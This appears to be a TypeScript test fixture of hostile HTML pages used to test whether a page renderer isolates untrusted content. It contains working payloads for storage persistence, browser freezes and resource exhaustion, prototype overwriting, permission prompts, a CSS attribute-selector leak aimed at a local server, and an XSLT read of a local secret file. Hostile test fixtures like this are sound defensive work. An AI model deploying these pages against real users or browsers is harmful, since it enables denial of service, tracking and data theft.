import type { MakeHostilePrograms } from '../../../port/samples.ts';

const script = (code: string): string => `<!doctype html><body><h1>hello</h1><script>${code}</script>`;
/** Paints in magenta where the expression is true, now or once a promise says so. */
const looking = (expression: string): string =>
  script(
    `Promise.resolve().then(() => ${expression}).then((found) => { if (found) document.body.style.background = 'magenta' }, () => 0)`,
  );

/** Pages that leave something for the next one, or spoil the browser's own work on the page. */
export const htmlLeft: MakeHostilePrograms = ({ port, folder }) => ({
  'storage left': [
    'ok',
    script(
      "try { localStorage.left = sessionStorage.left = 1 } catch {} document.cookie = 'left=1; max-age=99999'; name = 'left'",
    ),
    looking(
      '(() => { try { if (localStorage.left || sessionStorage.left) return true } catch {} return document.cookie || name })()',
    ),
  ],
  'a database left': [
    'ok',
    script("indexedDB.open('left').onupgradeneeded = (e) => e.target.result.createObjectStore('s').put(1, 1)"),
    looking('indexedDB.databases().then((all) => all.length > 0)'),
  ],
  'a cache left': [
    'ok',
    script("caches.open('left').then((c) => c.put('/x', new Response('x')))"),
    looking("caches.has('left')"),
  ],
  'a channel kept open': [
    'any',
    script(
      "const c = new BroadcastChannel('left'); setInterval(() => c.postMessage(1), 1); c.onmessage = () => c.postMessage(1)",
    ),
    script(
      "new BroadcastChannel('left').onmessage = () => { document.body.style.background = 'magenta' }; const end = performance.now() + 500; while (performance.now() < end);",
    ),
  ],
  'a shared worker left': [
    'any',
    script(
      'const u = URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(self.n = (self.n || 0) + 1); setInterval(() => { for (let i = 0; i < 1e6; i++); }, 0)"])); new SharedWorker(u, "left")',
    ),
    script(
      "new SharedWorker('data:text/javascript,', 'left').port.onmessage = () => { document.body.style.background = 'magenta' }",
    ),
  ],
  'a service worker of its own address': [
    'any',
    script(
      "navigator.serviceWorker?.register('/sw.js', { scope: '/' }).then(() => { document.body.style.background = 'magenta' }, () => 0)",
    ),
    looking('navigator.serviceWorker?.getRegistrations().then((all) => all.length > 0)'),
  ],
  'locks held': [
    'any',
    script("navigator.locks?.request('left', () => new Promise(() => {}))"),
    looking('navigator.locks?.query().then(({ held }) => held.length > 0)'),
  ],
  'a window kept open': [
    'any',
    script(
      "const w = window.open('about:blank', 'left', 'width=9'); setInterval(() => w && w.focus(), 1); opener && opener.close()",
    ),
    looking("opener || window.open('', 'left')?.location.href.includes('left')"),
  ],
  'functions of the browser replaced': [
    'any',
    script(`for (const owner of [Promise.prototype, Document.prototype, Element.prototype, Object.prototype, Array.prototype, Function.prototype])
      for (const name of Object.getOwnPropertyNames(owner)) try { if (name !== 'constructor') owner[name] = () => { throw new Error('x') } } catch {}`),
    script('document.body.append([1, 2].map(String).join())'),
  ],
  'a promise of fonts that never comes': [
    'any',
    script(
      "Object.defineProperty(document, 'fonts', { value: { ready: new Promise(() => {}) } }); requestAnimationFrame = () => 0; setTimeout = () => 0",
    ),
  ],
  'a page without a root': [
    'any',
    script(
      'document.documentElement.remove(); document.open(); document.close(); document.removeChild(document.lastChild)',
    ),
  ],
  'a page that never ends its loading': [
    'any',
    `<h1>hello</h1><img src="http://127.0.0.1:${port}/slow"><script>document.write('<script src="http://127.0.0.1:${port}/x"></scr' + 'ipt>'); stop()</script>`,
  ],
  'dialogs on the way out': [
    'any',
    script(
      'onbeforeunload = (e) => { e.preventDefault(); alert(1); while (true); }; onunload = onpagehide = () => { while (true); }',
    ),
  ],
  'a breakpoint': [
    'any',
    script(
      'debugger; setInterval(() => { debugger }, 0); console.profile(); console.profileEnd(); debug = monitor = 1',
    ),
  ],
  'a page that waits on itself': ['any', script('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)')],
  'a worker that waits forever': [
    'any',
    script(
      'const u = URL.createObjectURL(new Blob(["Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)"])); new Worker(u).onerror = (e) => { throw e }',
    ),
  ],
  'elements within elements': [
    'any',
    script(
      "let at = document.body; for (let i = 0; i < 200000; i++) at = at.appendChild(document.createElement('div')); at.append('deep')",
    ),
  ],
  'rules that match everything': [
    'any',
    `<style>${Array.from({ length: 3000 }, (_, i) => `body:has(div:nth-child(${i}n+1 of :not(.x))) ~ * *:not(:has(*:hover)) { color: red }`).join('')}</style>${'<div><p>x</p></div>'.repeat(5000)}`,
  ],
  'a grid of a billion cells': [
    'any',
    '<div style="display:grid;grid-template:repeat(1000000,1px)/repeat(1000000,1px)"><p style="grid-area:999999/999999">x</p></div>',
  ],
  'a table that spans without end': [
    'any',
    `<table border>${'<tr>' + '<td colspan="1000" rowspan="65534">x</td>'.repeat(500) + '</tr>'.repeat(300)}</table>`,
  ],
  'a drawing of the graphics card': [
    'any',
    script(
      "const g = document.body.appendChild(document.createElement('canvas')).getContext('webgl'); const s = g.createShader(g.FRAGMENT_SHADER); g.shaderSource(s, 'precision highp float; void main() { float x = 0.; for (int i = 0; i < 100000000; i++) x += sin(float(i)); gl_FragColor = vec4(x); }'); g.compileShader(s); for (;;) { const b = g.createBuffer(); g.bindBuffer(g.ARRAY_BUFFER, b); g.bufferData(g.ARRAY_BUFFER, 1e8, g.STATIC_DRAW) }",
    ),
  ],
  'style that asks letter by letter': [
    'ok',
    `<style>input[value^="a"] { background: url(http://127.0.0.1:${port}/a) } input { background: image-set(url(http://127.0.0.1:${port}/b) 1x); list-style: url(http://127.0.0.1:${port}/c); mask: url(http://127.0.0.1:${port}/d); border-image: url(http://127.0.0.1:${port}/e) } @namespace url(http://127.0.0.1:${port}/f); @font-face { font-family: x; src: local("x"), url(file://${folder}/secret.txt) } p::before { content: url(http://127.0.0.1:${port}/g) }</style><input value="abc"><p style="font-family:x">x`,
  ],
  'a document transformed': [
    'any',
    script(
      `const p = new XSLTProcessor(); const d = new DOMParser().parseFromString('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:import href="file://${folder}/secret.svg"/><x:template match="/"><x:copy-of select="document(\\'http://127.0.0.1:${port}/\\')"/></x:template></x:stylesheet>', 'text/xml'); try { p.importStylesheet(d); document.body.append(p.transformToFragment(d, document)) } catch {}`,
    ),
  ],
  'devices and persons': [
    'ok',
    script(
      "for (const ask of [() => navigator.geolocation.getCurrentPosition(() => 0), () => navigator.mediaDevices.getUserMedia({ video: true }), () => navigator.clipboard.readText(), () => Notification.requestPermission(), () => document.documentElement.requestFullscreen(), () => document.body.requestPointerLock(), () => navigator.usb.requestDevice({ filters: [] }), () => showOpenFilePicker(), () => navigator.credentials.get(), () => navigator.share({ text: 'x' })]) try { const p = ask(); p && p.catch && p.catch(() => 0) } catch {}",
    ),
  ],
});
